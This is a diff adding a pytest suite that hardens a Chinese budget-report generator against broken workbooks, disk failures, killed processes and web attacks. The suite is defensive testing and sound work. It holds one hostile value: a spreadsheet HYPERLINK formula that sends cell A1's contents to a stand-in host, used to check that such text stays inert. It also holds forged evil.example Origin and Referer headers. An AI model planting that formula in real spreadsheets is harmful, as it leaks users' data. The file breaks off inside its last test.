@@ -1,0 +1,825 @@
+"""Hostile and broken input, unlucky disks, interrupted runs: one Chinese sentence, never a traceback.
+
+The corpus `BROKEN` starts from the small consistent workbook and breaks its file the way a
+damaged download, a careless tool or an attacker would; every case must end in a
+WorkbookError whose sentence the clerk can act on, and the batch and the web page must say
+exactly the same sentence for it.
+"""
+
+from __future__ import annotations
+
+import datetime
+import errno
+import io
+import os
+import re
+import shutil
+import signal
+import socket
+import stat
+import subprocess
+import sys
+import time
+import zipfile
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+from openpyxl import load_workbook
+
+from generator import batch, output
+from generator.batch import run_batch
+from generator.cli import main
+from generator.errors import WorkbookError
+from generator.pipeline import load
+
+from conftest import ROOT, SAMPLES
+
+ANJU = SAMPLES / "四川-安居区社保局-2024年度单位决算.xlsx"
+UNIT_SHEET = "xl/worksheets/sheet2.xml"  # 单位信息, the first sheet the reader reads
+HOSTILE = '=HYPERLINK("http://example.invalid/?leak="&A1,"点我")'
+
+
+def rewrite(path: Path, change: dict[str, bytes | None], target: Path | None = None) -> Path:
+    """Copy the workbook at `path` with some zip members replaced (bytes), removed (None) or added."""
+    target = target or path
+    with zipfile.ZipFile(path) as z:
+        members = {i.filename: z.read(i.filename) for i in z.infolist()}
+    for name, data in change.items():
+        if data is None:
+            members.pop(name, None)
+        else:
+            members[name] = data
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
+        for name, data in members.items():
+            z.writestr(name, data)
+    target.write_bytes(buf.getvalue())
+    return target
+
+
+def member(path: Path, name: str) -> bytes:
+    with zipfile.ZipFile(path) as z:
+        return z.read(name)
+
+
+def sheet_xml(rows: int = 1, dimension: str | None = None, cell: str = "A{r}", cells_per_row: int = 1) -> bytes:
+    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
+    body = "".join(f'<row r="{r}">' + "".join(f'<c r="{cell.format(r=r, c=c)}"><v>1</v></c>' for c in range(cells_per_row))
+                   + "</row>" for r in range(1, rows + 1))
+    return (f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{dim}'
+            f"<sheetData>{body}</sheetData></worksheet>").encode()
+
+
+# Each case: (id, how to break the good workbook at `p` → the broken file's path, words the sentence must hold)
+BROKEN = [
+    ("workbook-xml-truncated", lambda p: rewrite(p, {"xl/workbook.xml": member(p, "xl/workbook.xml")[:200]}), "文件已损坏"),
+    ("workbook-xml-garbage", lambda p: rewrite(p, {"xl/workbook.xml": b"<workbook><sheets><sheet"}), "文件已损坏"),
+    ("workbook-xml-missing", lambda p: rewrite(p, {"xl/workbook.xml": None}), "无法作为 Excel 工作簿打开"),
+    ("sheet-xml-truncated", lambda p: rewrite(p, {UNIT_SHEET: member(p, UNIT_SHEET)[:300]}), "文件已损坏"),
+    ("sheet-xml-not-xml", lambda p: rewrite(p, {UNIT_SHEET: b"\x00\x01 not xml at all"}), "文件已损坏"),
+    ("sheet-xml-missing", lambda p: rewrite(p, {UNIT_SHEET: None}), "缺少工作表“单位信息”"),
+    ("sheet-xml-bad-number", lambda p: rewrite(p, {UNIT_SHEET: member(p, UNIT_SHEET).replace(
+        b'<c r="B7"', b'<c r="B7" t="n"><v>abc</v></c><c r="Z99"', 1)}), "文件已损坏"),
+    ("sheet-xml-bad-reference", lambda p: rewrite(p, {UNIT_SHEET: member(p, UNIT_SHEET).replace(
+        b'<c r="B4"', b'<c r="?!"', 1)}), "文件已损坏"),
+    ("styles-xml-truncated", lambda p: rewrite(p, {"xl/styles.xml": member(p, "xl/styles.xml")[:150]}), "文件已损坏"),
+    ("styles-xml-garbage", lambda p: rewrite(p, {"xl/styles.xml": b"<styleSheet><cellXfs count='x'>"}), "文件已损坏"),
+    ("content-types-missing", lambda p: rewrite(p, {"[Content_Types].xml": None}), "文件已损坏"),
+    ("rels-garbage", lambda p: rewrite(p, {"xl/_rels/workbook.xml.rels": b"<Relationships"}), "文件已损坏"),
+    ("zip-truncated", lambda p: (p.write_bytes(p.read_bytes()[: len(p.read_bytes()) // 2]), p)[1], "无法作为 Excel 工作簿打开"),
+    ("zip-crc-broken", lambda p: _flip_in_member(p, UNIT_SHEET), "无法作为 Excel 工作簿打开"),
+    ("shared-strings-millions", lambda p: rewrite(p, {"xl/sharedStrings.xml": b"<sst>" + b"<si><t>a</t></si>" * 100_001
+                                                      + b"</sst>"}), "100000 个的上限"),
+    ("part-unpacks-huge", lambda p: rewrite(p, {"xl/media/image1.bin": b"\0" * (17 * 1024 * 1024)}), "16 MB 的上限"),
+    ("parts-unpack-huge-together", lambda p: rewrite(p, {f"xl/media/image{i}.bin": b"\0" * (15 * 1024 * 1024)
+                                                         for i in range(5)}), "64 MB 的上限"),
+    ("extra-sheet-many-rows", lambda p: rewrite(p, {"xl/worksheets/sheet99.xml": sheet_xml(rows=10_001)}), "10000 行的上限"),
+    ("dimension-whole-sheet", lambda p: rewrite(p, {"xl/worksheets/sheet99.xml": sheet_xml(dimension="A1:XFD1048576")}),
+     "使用范围为 A1:XFD1048576"),
+    ("cell-far-right", lambda p: rewrite(p, {"xl/worksheets/sheet99.xml": sheet_xml(cell="ZZZ{r}")}), "256 列的上限"),
+    ("too-many-cells", lambda p: rewrite(p, {"xl/worksheets/sheet99.xml": sheet_xml(rows=5000, cells_per_row=62,
+                                                                                     cell="A{r}")}), "300000 个的上限"),
+    ("too-many-sheets", lambda p: rewrite(p, {f"xl/worksheets/extra{i}.xml": sheet_xml() for i in range(101)}),
+     "100 张的上限"),
+    ("file-too-big", lambda p: (p.write_bytes(b"PK\x03\x04" + b"\0" * (21 * 1024 * 1024)), p)[1], "20 MB 的上限"),
+    ("empty-part", lambda p: rewrite(p, {UNIT_SHEET: b""}), "文件已损坏"),
+    ("docx-renamed", lambda p: rewrite(p, {"xl/workbook.xml": None, "word/document.xml": b"<w:document/>"}),
+     "无法作为 Excel 工作簿打开"),
+]
+
+
+def _flip_in_member(path: Path, name: str) -> Path:
+    """Damage the compressed bytes of one member (its CRC no longer matches)."""
+    data = bytearray(path.read_bytes())
+    with zipfile.ZipFile(path) as z:
+        info = z.getinfo(name)
+    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
+    for i in range(start + 10, start + 40):
+        data[i] ^= 0x5A
+    path.write_bytes(bytes(data))
+    return path
+
+
+@pytest.fixture
+def good(make_workbook, minimal_data):
+    return make_workbook(minimal_data, "单位.xlsx")
+
+
+@pytest.mark.parametrize("case", BROKEN, ids=[c[0] for c in BROKEN])
+def test_broken_file_is_one_chinese_sentence(case, good):
+    """A damaged or hostile workbook file: a WorkbookError naming the file, with the reason; no traceback."""
+    _, breaks, words = case
+    path = breaks(good) or good
+    with pytest.raises(WorkbookError) as info:
+        load(path)
+    message = str(info.value)
+    assert words in message, message
+    assert re.search(r"[\u4e00-\u9fff]", message) and "Error" not in message and "Traceback" not in message
+
+
+def test_broken_files_say_the_same_in_cli_batch_and_web(good, tmp_path):
+    """The CLI, a batch and the web page give each broken workbook the very same sentence."""
+    from generator import web
+
+    folder = tmp_path / "区县"
+    folder.mkdir()
+    chosen = [c for c in BROKEN if c[0] in ("workbook-xml-truncated", "sheet-xml-truncated", "styles-xml-garbage",
+                                             "shared-strings-millions", "extra-sheet-many-rows", "zip-crc-broken")]
+    expected = {}
+    for name, breaks, _ in chosen:
+        path = folder / f"{name}.xlsx"
+        shutil.copy(good, path)
+        breaks(path)
+        res = CliRunner().invoke(main, ["check", str(path)])
+        assert res.exit_code == 1 and "Traceback" not in res.output
+        expected[path.name] = res.stderr.strip().removeprefix("错误：")
+    result = run_batch([folder], tmp_path / "out", jobs=1)
+    assert {Path(r["relative"]).name: r["message"] for r in result.results} == expected
+
+    app = web.create_app({"WORK_DIR": tmp_path / "web", "JOBS": 1})
+    client = app.test_client()
+    token = re.search(r'name="csrf" value="([^"]+)"', client.get("/").get_data(as_text=True)).group(1)
+    files = [(io.BytesIO((folder / n).read_bytes()), n) for n in expected]
+    res = client.post("/upload", data={"files": files, "csrf": token}, content_type="multipart/form-data")
+    assert res.status_code == 303
+    store = app.extensions["juesuan"]
+    job = next(iter(next(iter(store.sessions.values())).jobs.values()))
+    end = time.monotonic() + 60
+    while job.running and time.monotonic() < end:
+        time.sleep(0.2)
+    assert {u.display: u.message for u in job.units} == expected
+
+
+# ---------------------------------------------------------------- file type by content
+
+@pytest.mark.parametrize("name", ["单位.xls", "单位.csv", "单位", "单位.XLSX"])
+def test_workbook_under_another_name_is_read_by_content(good, tmp_path, name):
+    """A valid workbook named .xls, .csv, without extension or in capitals is checked as the workbook it is."""
+    path = tmp_path / name
+    shutil.copy(good, path)
+    res = CliRunner().invoke(main, ["check", str(path)])
+    assert res.exit_code == 0, res.output
+    assert "检查完成：错误 0 处" in res.output
+
+
+def test_previous_pointing_at_a_broken_file_is_no_traceback(good, tmp_path):
+    """`--previous` naming a damaged workbook: the report is still written, no traceback."""
+    broken = rewrite(good, {"xl/workbook.xml": b"<workbook"}, tmp_path / "上年.xlsx")
+    res = CliRunner().invoke(main, [str(good), "-o", str(tmp_path / "out"), "--previous", str(broken)])
+    assert "Traceback" not in res.output and res.exception is None or isinstance(res.exception, SystemExit)
+    assert res.exit_code == 0, res.output
+
+
+# ---------------------------------------------------------------- messages
+
+def test_messages_name_the_cell_type(minimal_data, make_workbook):
+    """A date in a count cell is said to be a date; TRUE as 单位名称 is refused; 1900 is out of range (not "四位")."""
+    minimal_data["unit"].update(staff_actual=None, year=1900)
+    path = make_workbook(minimal_data)
+    wb = load_workbook(path)
+    wb["单位信息"]["B14"] = datetime.datetime(2024, 5, 1)
+    wb["单位信息"]["B4"] = True
+    wb.save(path)
+    _, findings = load(path)
+    said = {(f.rule, f.ref): f.message for f in findings}
+    assert said["READ-COUNT", "单位信息!B14"].startswith("应填不小于 0 的整数，实为日期或时间“2024-05-01 00:00:00”")
+    assert "金额" not in said["READ-COUNT", "单位信息!B14"]
+    assert said["READ-TEXT", "单位信息!B4"] == "应填文字，实为逻辑值“TRUE”；请填写文字"
+    assert said["UNIT-YEAR", "单位信息!B7"] == "报告年度应在 2000 至 2100 年之间，实为“1900”"
+
+
+def test_full_width_code_is_read_as_digits(minimal_data, make_workbook):
+    """A code typed with full-width digits is read as the code (as amounts are) with a hint."""
+    minimal_data["t03"][0]["code"] = "２０１０１０１"
+    acc, findings = load(make_workbook(minimal_data))
+    assert [f.message for f in findings if f.rule == "CODE-FORMAT"] == ["编码“２０１０１０１”按 2010101 读取（全角字符已转为半角）"]
+    assert not [f for f in findings if f.severity == "错误"]
+
+
+def test_long_unit_name_still_writes_the_report(minimal_data, make_workbook, tmp_path):
+    """A 300-character 单位名称 gives a report with a shortened file name, not "File name too long"."""
+    minimal_data["unit"]["name"] = "很长的单位名称" * 43
+    res = CliRunner().invoke(main, [str(make_workbook(minimal_data)), "-o", str(tmp_path / "out")])
+    assert res.exit_code == 0, res.output
+    docx = [p for p in (tmp_path / "out").rglob("*.docx")]
+    assert len(docx) == 1 and "2024年度单位决算说明" in docx[0].name and len(docx[0].name.encode()) < 255
+
+
+@pytest.mark.parametrize("value", ["nan", "inf", "-1", "abc"])
+def test_bad_threshold_is_one_sentence(good, value):
+    """`--change-amount nan` (or inf, a negative, a word): one Chinese line, exit 1."""
+    res = CliRunner().invoke(main, ["check", str(good), f"--change-amount={value}"])
+    assert res.exit_code == 1 and "Traceback" not in res.output
+    assert res.stderr.strip() == f"错误：--change-amount 的值应为不小于 0 的数字，实为“{value}”；用 generate --help 查看用法"
+
+
+# ---------------------------------------------------------------- the disk refuses
+
+def _report(out: Path) -> Path:
+    return next(out.rglob("*.docx"))
+
+
+def test_full_disk_keeps_the_earlier_report(good, tmp_path, monkeypatch):
+    """Disk full while writing: one sentence, the earlier report byte-identical, no *.tmp left."""
+    out = tmp_path / "out"
+    assert CliRunner().invoke(main, [str(good), "-o", str(out)]).exit_code == 0
+    before = _report(out).read_bytes()
+
+    def full(self, data):
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    monkeypatch.setattr(Path, "write_bytes", full)
+    res = CliRunner().invoke(main, [str(good), "-o", str(out)])
+    assert res.exit_code == 1 and "Traceback" not in res.output
+    assert res.stderr.startswith("错误：磁盘空间不足，无法写入“") and "请清理磁盘或换一个输出文件夹后重试" in res.stderr
+    monkeypatch.undo()
+    assert _report(out).read_bytes() == before
+    assert not list(out.rglob("*.tmp"))
+
+
+def test_full_disk_in_a_batch_fails_the_unit_with_the_sentence(good, tmp_path, monkeypatch):
+    """In a batch the unit that could not be written fails with the same sentence; it is retried next run."""
+    folder = tmp_path / "区县"
+    folder.mkdir()
+    shutil.copy(good, folder / "单位.xlsx")
+    monkeypatch.setattr(Path, "write_bytes", lambda self, data: (_ for _ in ()).throw(OSError(errno.ENOSPC, "full")))
+    result = run_batch([folder], tmp_path / "out", jobs=1)
+    (unit,) = result.results
+    assert unit["status"] == "错误" and unit["message"].startswith("磁盘空间不足，无法写入“")
+    monkeypatch.undo()
+    again = run_batch([folder], tmp_path / "out", jobs=1)
+    assert again.results[0]["status"] == "成功" and not again.results[0]["skipped"]
+
+
+def test_report_path_taken_by_a_folder(good, tmp_path):
+    """A folder where the .docx should go: one sentence naming it."""
+    out = tmp_path / "out"
+    assert CliRunner().invoke(main, [str(good), "-o", str(out)]).exit_code == 0
+    report = _report(out)
+    report.unlink()
+    report.mkdir()
+    res = CliRunner().invoke(main, [str(good), "-o", str(out)])
+    assert res.exit_code == 1 and "Traceback" not in res.output
+    assert res.stderr.strip() == f"错误：“{report}”是一个文件夹，无法作为文件写入；请移走或改名该文件夹后重试"
+
+
+def test_output_folder_is_a_file(good, tmp_path):
+    """`-o` naming an existing file (single and batch): one sentence."""
+    blocker = tmp_path / "输出"
+    blocker.write_text("x")
+    for args in ([str(good)], [str(good), str(good)]):
+        res = CliRunner().invoke(main, [*args, "-o", str(blocker / "子")])
+        assert res.exit_code == 1 and "Traceback" not in res.output, res.output
+        assert "同名的文件已存在" in res.stderr, res.stderr
+
+
+def test_read_only_output_folder(good, tmp_path, monkeypatch):
+    """A read-only output folder (single and batch): one sentence, no traceback."""
+    monkeypatch.setattr(output, "_can_write", lambda folder: False)  # as root, chmod would not stop us
+    for args in ([str(good)], [str(good), str(good)]):
+        res = CliRunner().invoke(main, [*args, "-o", str(tmp_path / "out")])
+        assert res.exit_code == 1 and "Traceback" not in res.output, res.output
+        assert res.stderr.startswith("错误：没有在“") and "写入的权限" in res.stderr, res.stderr
+
+
+@pytest.mark.parametrize("code, words", [
+    (errno.ENOSPC, "磁盘空间不足"), (errno.EROFS, "所在的磁盘是只读的"), (errno.ENAMETOOLONG, "文件名或路径过长"),
+    (errno.EACCES, "写入的权限"), (errno.EIO, "无法写入“"),
+])
+def test_every_disk_refusal_is_a_sentence(tmp_path, monkeypatch, code, words):
+    """Whatever the operating system refuses while writing, the writer says it in Chinese, naming the place."""
+    from generator.errors import OutputError
+
+    (tmp_path / "out").mkdir()
+    target = tmp_path / "out" / "报告.docx"
+    target.write_bytes(b"earlier")
+
+    def refuse(self, data):
+        raise (PermissionError if code == errno.EACCES else OSError)(code, os.strerror(code))
+
+    monkeypatch.setattr(Path, "write_bytes", refuse)
+    with pytest.raises(OutputError) as info:
+        with output.atomic_write(target) as tmp:
+            tmp.write_bytes(b"new")
+    monkeypatch.undo()
+    assert words in str(info.value) and str(target) in str(info.value)
+    assert target.read_bytes() == b"earlier" and [p.name for p in target.parent.iterdir()] == ["报告.docx"]
+
+
+def test_output_equal_to_input_folder(good, tmp_path):
+    """`-o` equal to the input folder: told so, not "no workbooks"."""
+    folder = good.parent
+    res = CliRunner().invoke(main, [str(folder), "-o", str(folder)])
+    assert res.exit_code == 1
+    assert res.stderr.startswith(f"错误：输出文件夹“{folder}”与工作簿所在的文件夹相同")
+
+
+# ---------------------------------------------------------------- litter and permissions
+
+def test_files_honour_the_umask_and_litter_is_removed(good, tmp_path):
+    """Reports are created with the umask's mode (0644 under 022); *.tmp of a killed run goes at the next run."""
+    out = tmp_path / "out"
+    assert CliRunner().invoke(main, [str(good), "-o", str(out)]).exit_code == 0
+    report = _report(out)
+    mask = os.umask(0o022)
+    os.umask(mask)
+    assert stat.S_IMODE(report.stat().st_mode) == 0o666 & ~mask
+    if mask == 0o022:
+        assert stat.S_IMODE(report.stat().st_mode) == 0o644
+    litter = [report.parent / f".{report.stem}.abc123.docx.tmp", report.parent / "图表" / ".图1.xyz.png.tmp"]
+    for tmp in litter:
+        tmp.write_bytes(b"half")
+    assert CliRunner().invoke(main, [str(good), "-o", str(out)]).exit_code == 0
+    assert not any(t.exists() for t in litter)
+
+
+def test_batch_removes_litter_below_its_output(good, tmp_path):
+    folder = tmp_path / "区县"
+    folder.mkdir()
+    shutil.copy(good, folder / "单位.xlsx")
+    out = tmp_path / "out"
+    (out / "旧").mkdir(parents=True)
+    litter = [out / ".manifest.abc.json.tmp", out / "旧" / ".汇总.x.xlsx.tmp"]
+    for tmp in litter:
+        tmp.write_bytes(b"half")
+    run_batch([folder], out, jobs=1)
+    assert not any(t.exists() for t in litter)
+
+
+# ---------------------------------------------------------------- names that cannot collide
+
+def test_names_folded_alike_get_their_own_folders(good, tmp_path):
+    """"单位.xlsx", "单位 .xlsx", "单位.XLSX", "单位.xlsm", "a:b.xlsx" and "a_b.xlsx": six folders, six reports."""
+    folder = tmp_path / "区县"
+    folder.mkdir()
+    for name in ("单位.xlsx", "单位 .xlsx", "单位.XLSX", "单位.xlsm", "a:b.xlsx", "a_b.xlsx"):
+        shutil.copy(good, folder / name)
+    out = tmp_path / "out"
+    result = run_batch([folder], out, jobs=1)
+    dirs = {r["out_dir"] for r in result.results}
+    assert len(dirs) == 6
+    assert len(list(out.rglob("*.docx"))) == 6
+    assert (out / "单位").is_dir() and (out / "a_b").is_dir()
+
+
+def test_folders_differing_in_case_of_the_suffix_are_processed_and_others_listed(good, tmp_path):
+    """.XLSX, .Xlsx and .xlsm are processed; a .doc and an Office lock file are listed in 汇总.xlsx."""
+    folder = tmp_path / "区县"
+    folder.mkdir()
+    for name in ("甲.XLSX", "乙.Xlsx", "丙.xlsm"):
+        shutil.copy(good, folder / name)
+    (folder / "说明.doc").write_bytes(b"\xd0\xcf\x11\xe0word")
+    (folder / "~$甲.XLSX").write_bytes(b"lock")
+    res = CliRunner().invoke(main, [str(folder), "-o", str(tmp_path / "out"), "--jobs", "1"])
+    assert res.exit_code == 0, res.output
+    assert "共 3 个单位：生成 3 个" in res.output
+    assert "未处理  说明.doc：不是 .xlsx 工作簿" in res.output
+    sheet = load_workbook(tmp_path / "out" / "汇总.xlsx")[batch.NOT_PROCESSED_SHEET]
+    assert list(sheet.iter_rows(min_row=2, values_only=True)) == [
+        ("~$甲.XLSX", "Office 的临时文件（工作簿正在被打开），不是工作簿"), ("说明.doc", "不是 .xlsx 工作簿")]
+
+
+def test_second_batch_into_the_same_folder_is_refused(good, tmp_path):
+    """While one batch writes into an output folder another is told to wait (a lock file)."""
+    out = tmp_path / "out"
+    out.mkdir()
+    with batch.output_lock(out):
+        res = CliRunner().invoke(main, [str(good), str(good), "-o", str(out)])
+    assert res.exit_code == 1
+    assert res.stderr.strip() == f"错误：另一个批量处理正在向“{out}”写入；请等它完成后再运行，或用 -o 换一个输出文件夹"
+    assert CliRunner().invoke(main, [str(good), str(good), "-o", str(out), "--jobs", "1"]).exit_code == 0
+
+
+def test_failed_units_are_not_counted_as_generated(good, tmp_path, minimal_data, make_workbook):
+    """The batch's last line counts a failed unit as not generated."""
+    from decimal import Decimal
+
+    minimal_data["t03"][0]["total"] = Decimal("90")
+    bad = make_workbook(minimal_data, "坏.xlsx")
+    res = CliRunner().invoke(main, [str(good), str(bad), "-o", str(tmp_path / "out"), "--jobs", "1"])
+    assert "共 2 个单位：生成 1 个，未变动跳过 0 个，未生成（有错误）1 个。" in res.output
+
+
+# ---------------------------------------------------------------- text is text
+
+def _sheet_xmls(path: Path) -> dict[str, bytes]:
+    with zipfile.ZipFile(path) as z:
+        return {n: z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")}
+
+
+def test_hostile_names_are_written_as_text(minimal_data, make_workbook, tmp_path):
+    """A unit name, a code name and a file name starting with "=" stay text in 汇总.xlsx and
+    in the check workbook: the written XML holds no formula, and the text reads back unchanged."""
+    minimal_data["unit"]["name"] = HOSTILE
+    minimal_data["t03"].append({"code": "2019998", "name": "=1+1"})
+    folder = tmp_path / "区县"
+    folder.mkdir()
+    path = make_workbook(minimal_data, "=1+1.xlsx")
+    assert b"<f>" not in b"".join(_sheet_xmls(path).values())  # our own writer, too
+    shutil.copy(path, folder / "=1+1.xlsx")
+    out = tmp_path / "out"
+    run_batch([folder], out, jobs=1)
+    summary = out / "汇总.xlsx"
+    assert b"<f>" not in b"".join(_sheet_xmls(summary).values())
+    row = next(load_workbook(summary)["汇总"].iter_rows(min_row=2, values_only=True))
+    assert row[:2] == ("=1+1.xlsx", HOSTILE)
+
+    res = CliRunner().invoke(main, ["check", str(path), "--report", "-o", str(tmp_path / "chk")])
+    report = next((tmp_path / "chk").rglob("*.检查结果.xlsx"))
+    xml = _sheet_xmls(report)
+    assert not [n for n, x in xml.items() if b"<f>" in x], res.output
+    wb = load_workbook(report)
+    assert wb["单位信息"]["B4"].value == HOSTILE and wb["单位信息"]["B4"].data_type == "s"
+    messages = [c.value for c in wb["检查结果"]["E"] if c.value]
+    assert any("=1+1" in m for m in messages)
+
+
+def test_text_cell_keeps_a_leading_equals_as_text(tmp_path):
+    """The helper every writer uses: a string starting with "=" is stored as a string, a formula never."""
+    from openpyxl import Workbook
+
+    from generator.workbook import as_text, text_cell
+
+    wb = Workbook()
+    text_cell(wb.active.cell(1, 1), "=1+1")
+    wb.active.cell(2, 1, "=SUM(A1:A1)")
+    as_text(wb)
+    wb.save(tmp_path / "t.xlsx")
+    xml = _sheet_xmls(tmp_path / "t.xlsx")["xl/worksheets/sheet1.xml"]
+    assert b"<f>" not in xml and b"<t>=1+1</t>" in xml and b"<t>=SUM(A1:A1)</t>" in xml
+
+
+# ---------------------------------------------------------------- processes that die together
+
+def _children(pid: int) -> set[int]:
+    found = set()
+    for task in Path(f"/proc/{pid}/task").glob("*"):
+        try:
+            found |= {int(x) for x in (task / "children").read_text().split()}
+        except OSError:
+            pass
+    return found
+
+
+def _alive(pid: int) -> bool:
+    try:
+        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
+    except OSError:
+        return False
+    return state != "Z"
+
+
+@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc is Linux's")
+@pytest.mark.parametrize("sig", [signal.SIGKILL, signal.SIGTERM])
+def test_workers_die_with_the_batch(good, tmp_path, sig):
+    """SIGKILL or SIGTERM of a batch's main process: its workers are gone within seconds."""
+    folder = tmp_path / "区县"
+    folder.mkdir()
+    for i in range(6):
+        shutil.copy(ANJU, folder / f"单位{i}.xlsx")
+    code = (f"from generator.batch import run_batch; run_batch([{str(folder)!r}], {str(tmp_path / 'out')!r}, jobs=2)")
+    proc = subprocess.Popen([sys.executable, "-c", code], cwd=ROOT, env=os.environ | {"PYTHONPATH": str(ROOT)})
+    workers: set[int] = set()
+    try:
+        end = time.monotonic() + 60
+        while len(_children(proc.pid)) < 2 and time.monotonic() < end and proc.poll() is None:
+            time.sleep(0.05)
+        workers = _children(proc.pid)
+        assert len(workers) >= 2, "the batch did not start its workers"
+        os.kill(proc.pid, sig)
+        proc.wait(30)
+        end = time.monotonic() + 10
+        while any(_alive(w) for w in workers) and time.monotonic() < end:
+            time.sleep(0.1)
+        assert not [w for w in workers if _alive(w)], "workers outlived their parent"
+    finally:
+        if proc.poll() is None:
+            proc.kill()
+        _end_leftovers(workers)
+
+
+def test_pool_never_larger_than_the_work(good, tmp_path, monkeypatch):
+    """`--jobs 32` with two workbooks starts two workers."""
+    from concurrent.futures import Future
+
+    started = []
+
+    class Recording:
+        def __init__(self, max_workers, initializer=None, initargs=()):
+            started.append(max_workers)
+
+        def submit(self, fn, *args):
+            f = Future()
+            f.set_result(fn(*args))
+            return f
+
+        def shutdown(self, *a, **k):
+            pass
+
+    monkeypatch.setattr(batch, "ProcessPoolExecutor", Recording)
+    folder = tmp_path / "区县"
+    folder.mkdir()
+    for name in ("甲.xlsx", "乙.xlsx"):
+        shutil.copy(good, folder / name)
+    run_batch([folder], tmp_path / "out", jobs=32)
+    assert started == [2]
+
+
+def test_worker_initializer_asks_to_die_with_its_parent(monkeypatch):
+    """The initializer sets PR_SET_PDEATHSIG and a watchdog that ends a worker whose parent is gone."""
+    exits = []
+    monkeypatch.setattr(batch, "WATCH_SECONDS", 0.01)
+    monkeypatch.setattr(batch.os, "_exit", lambda code: exits.append(code) or (_ for _ in ()).throw(SystemExit))
+    batch.die_with_parent(os.getppid())
+    time.sleep(0.1)
+    assert exits == []
+    with pytest.raises(SystemExit):
+        batch.die_with_parent(os.getppid() + 123456)
+    assert exits == [1]
+
+
+def _end_leftovers(workers: set[int]) -> None:
+    """A failing run must not leave its orphans behind."""
+    for w in workers:
+        if _alive(w):
+            try:
+                os.kill(w, signal.SIGKILL)
+            except OSError:
+                pass
+
+
+def _free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc is Linux's")
+@pytest.mark.parametrize("sig", [signal.SIGKILL, signal.SIGTERM])
+def test_killed_serve_releases_its_port(tmp_path, sig):
+    """`generate serve` killed (SIGKILL or SIGTERM) during a batch: its workers die, the port is free again."""
+    import http.cookiejar
+    import urllib.error
+    import urllib.request
+
+    port = _free_port()
+    proc = subprocess.Popen([sys.executable, "-c", "from generator.cli import main; main()", "serve", "--no-browser",
+                             "--port", str(port)],
+                            cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+                            env=os.environ | {"PYTHONPATH": str(ROOT)})
+    workers: set[int] = set()
+    opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(http.cookiejar.CookieJar()),
+                                         NoRedirect())
+    try:
+        base = f"http://127.0.0.1:{port}"
+        end = time.monotonic() + 30
+        page = None
+        while page is None and time.monotonic() < end:
+            try:
+                page = opener.open(base + "/", timeout=2).read().decode()
+            except (urllib.error.URLError, ConnectionError):
+                time.sleep(0.1)
+        token = re.search(r'name="csrf" value="([^"]+)"', page).group(1)
+        boundary = "----hardening"
+        body = io.BytesIO()
+        body.write(f'--{boundary}\r\nContent-Disposition: form-data; name="csrf"\r\n\r\n{token}\r\n'.encode())
+        for i in range(6):
+            body.write(f'--{boundary}\r\nContent-Disposition: form-data; name="files"; filename="u{i}.xlsx"\r\n'
+                       "Content-Type: application/octet-stream\r\n\r\n".encode())
+            body.write(ANJU.read_bytes() + b"\r\n")
+        body.write(f"--{boundary}--\r\n".encode())
+        req = urllib.request.Request(base + "/upload", data=body.getvalue(), method="POST",
+                                     headers={"Content-Type": f"multipart/form-data; boundary={boundary}", "Origin": base})
+        try:
+            status = opener.open(req, timeout=30).status
+        except urllib.error.HTTPError as exc:
+            status = exc.code
+        assert status == 303
+        end = time.monotonic() + 60
+        while len(_children(proc.pid)) < 2 and time.monotonic() < end:
+            time.sleep(0.05)
+        workers = _children(proc.pid)
+        assert workers, "no workers started"
+        os.kill(proc.pid, sig)
+        proc.wait(30)
+        end = time.monotonic() + 10
+        while any(_alive(w) for w in workers) and time.monotonic() < end:
+            time.sleep(0.1)
+        assert not [w for w in workers if _alive(w)]
+        with socket.socket() as again:
+            again.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+            again.bind(("127.0.0.1", port))
+    finally:
+        if proc.poll() is None:
+            proc.kill()
+        _end_leftovers(workers)
+
+
+class NoRedirect(__import__("urllib.request").request.HTTPRedirectHandler):
+    def redirect_request(self, *args, **kwargs):
+        return None
+
+
+# ---------------------------------------------------------------- the web page under attack
+
+@pytest.fixture
+def app(tmp_path):
+    from generator import web
+
+    return web.create_app({"WORK_DIR": tmp_path / "web", "JOBS": 1})
+
+
+def _token(client) -> str:
+    return re.search(r'name="csrf" value="([^"]+)"', client.get("/").get_data(as_text=True)).group(1)
+
+
+def _post(client, files, token=None, headers=None):
+    data = {"files": [(io.BytesIO(b), n) for n, b in files]}
+    if token is not None:
+        data["csrf"] = token
+    return client.post("/upload", data=data, content_type="multipart/form-data", headers=headers or {})
+
+
+def _message(res) -> str:
+    return re.search(r'id="message">(.*?)</p>', res.get_data(as_text=True), re.S).group(1)
+
+
+@pytest.mark.parametrize("headers, with_token", [
+    ({"Origin": "http://evil.example"}, True),
+    ({"Origin": "null"}, True),
+    ({"Referer": "http://evil.example/page.html"}, True),
+    ({"Origin": "http://localhost"}, False),
+    ({}, False),
+])
+def test_cross_site_upload_is_refused(app, good, headers, with_token):
+    """A POST from another site (its Origin or Referer) or without the session's token: a Chinese 400,
+    and the clerk's session keeps its uploads."""
+    from generator import web
+
+    client = app.test_client()
+    token = _token(client)
+    assert _post(client, [("单位.xlsx", good.read_bytes())], token).status_code == 303
+    res = _post(client, [("单位.xlsx", good.read_bytes())], token if with_token else None, headers)
+    assert res.status_code == 400
+    assert _message(res) == web.CROSS_SITE
+    (sess,) = app.extensions["juesuan"].sessions.values()
+    assert len(sess.jobs) == 1
+
+
+def test_same_origin_upload_with_token_is_accepted(app, good):
+    client = app.test_client()
+    res = _post(client, [("单位.xlsx", good.read_bytes())], _token(client),
+                {"Origin": "http://localhost", "Referer": "http://localhost/"})
+    assert res.status_code == 303
+
+
+def test_cookie_is_same_site_strict(app):
+    """The session cookie is never sent along by another site's page."""
+    client = app.test_client()
+    res = client.get("/")
